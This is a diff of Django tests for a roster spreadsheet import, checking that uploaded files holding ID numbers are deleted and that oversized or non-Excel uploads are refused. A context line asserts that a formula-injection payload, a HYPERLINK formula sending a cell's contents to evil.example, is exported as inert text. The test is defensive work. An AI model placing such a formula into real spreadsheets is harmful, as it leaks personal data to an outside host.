@@ -240,3 +240,43 @@ def test_full_export_keeps_formulas_as_text(programme):
     assert row[8] == '=HYPERLINK("http://evil.example/?"&D2,"单位")' and row[9] == "+1+1"
     result = excel.roster_import(actor=None, programme=programme, file=io.BytesIO(data), on=D(2026, 1, 5))
     assert result.ok and result.unchanged == 3, [str(e) for e in result.errors]
+
+
+def test_uploaded_spreadsheets_are_deleted_after_the_import(
+    programme, world, client, django_capture_on_commit_callbacks
+):
+    """Issue 11 #7: uploaded rosters (plaintext 身份证号) were kept forever, failed and dry runs too."""
+    from django.core.files.storage import default_storage
+
+    client_sign_in(client, world.users["weihai_admin"])
+    names = []
+    for upload, extra in (
+        (SimpleUploadedFile("ok.xlsx", _book([_new_row(50)]).getvalue()), {}),
+        (SimpleUploadedFile("bad.xlsx", _book([_new_row(51, phone="1")]).getvalue()), {}),
+        (SimpleUploadedFile("dry.xlsx", _book([_new_row(52)]).getvalue()), {"dry_run": "on"}),
+    ):
+        with django_capture_on_commit_callbacks(execute=True):
+            client.post(f"/roster/p/{programme.pk}/import/", {"file": upload, **extra})
+        job = RosterImport.objects.order_by("-id")[0]
+        assert job.status in (ImportStatus.DONE, ImportStatus.FAILED) and job.finished_at
+        names.append(job)
+    for job in names:
+        job.refresh_from_db()
+        assert not job.file  # nothing left on the job …
+    assert not [n for n in default_storage.listdir("roster-imports")[1]]  # … nor in storage
+
+
+def test_spreadsheets_are_refused_beyond_the_row_cap(programme, monkeypatch):
+    monkeypatch.setattr(excel, "MAX_ROWS", 2)
+    result = excel.roster_import(
+        actor=None,
+        programme=programme,
+        file=_book([_new_row(60), _new_row(61), _new_row(62)]),
+        on=D(2026, 1, 5),
+    )
+    message = str(result.errors[0])
+    assert not result.ok and ("超过上限" in message or "请分批导入" in message)
+    result = excel.roster_import(
+        actor=None, programme=programme, file=io.BytesIO(b"id,name\n"), on=D(2026, 1, 5)
+    )
+    assert not result.ok and "不是 Excel" in str(result.errors[0])
